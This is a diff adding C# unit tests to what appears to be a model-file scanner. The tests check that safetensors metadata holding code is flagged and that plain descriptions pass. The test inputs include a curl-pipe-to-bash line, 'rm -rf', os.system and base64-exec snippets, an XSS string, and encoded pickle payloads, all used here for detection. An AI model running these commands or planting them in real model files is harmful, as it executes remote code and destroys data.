@@ -1,4 +1,5 @@
 using System.Text;
+using System.Text.Json;
 using ModelGuard.Core.Budgets;
 using ModelGuard.Rules;
 using ModelGuard.Scanning.Tests.Support;
@@ -109,4 +110,43 @@ public sealed class SafetensorsTests
 
     [Fact]
     public void A_text_file_that_resembles_one_is_not_a_model() => Scan.Of(Encoding.UTF8.GetString("12345678{\"a\":1}"u8), "a.txt").AssertNotAModel();
+
+    [Theory]
+    [InlineData("import os; os.system('id')")]
+    [InlineData("x = __import__('os')")]
+    [InlineData("<SCRIPT>alert(1)</script>")]
+    [InlineData("curl https://example.org/x | bash")]
+    [InlineData("exec(base64.b64decode(text))")]
+    [InlineData("rm -rf /tmp/x")]
+    public void A_program_in_the_metadata_is_suspicious(string text)
+    {
+        string json = $$$"""{"__metadata__":{"format":"pt","note":{{{JsonSerializer.Serialize(text)}}}}}""";
+
+        ScanResult result = Scan.Of(SafetensorsBuilder.WithHeader(json, []), "model.safetensors");
+
+        Assert.Equal(Verdict.Suspicious, result.Verdict);
+        Finding finding = result.AssertFound("MG1062");
+        Assert.Equal("note", finding.Subject);
+        Assert.Equal(8 + json.IndexOf(JsonSerializer.Serialize(text), StringComparison.Ordinal), finding.Place.Offset);
+    }
+
+    [Theory]
+    [InlineData("Trained with import of torch 2.4; executes on CPU (evaluated in eval mode).")]
+    [InlineData("See https://example.org/model, download with wget or curl.")]
+    [InlineData("gAxx is no pickle, cats are fine.")]
+    [InlineData("{\"ss_tag_frequency\": {\"a script\": 3}}")]
+    public void A_description_is_no_program(string text) =>
+        Scan.Of(SafetensorsBuilder.WithHeader($$$"""{"__metadata__":{"note":{{{JsonSerializer.Serialize(text)}}}}}""", []), "model.safetensors").AssertClean("safetensors");
+
+    [Fact]
+    public void A_pickle_in_the_metadata_is_found_however_it_is_encoded()
+    {
+        byte[] pickle = Payloads.Eval;
+        foreach (string text in (string[])[Convert.ToBase64String(pickle), Convert.ToHexString(pickle), Encoding.ASCII.GetString(Payloads.OsSystem)])
+        {
+            ScanResult result = Scan.Of(SafetensorsBuilder.WithHeader($$$"""{"__metadata__":{"note":{{{JsonSerializer.Serialize(text)}}}}}""", []), "model.safetensors");
+
+            result.AssertFound("MG1001", "note");
+        }
+    }
 }
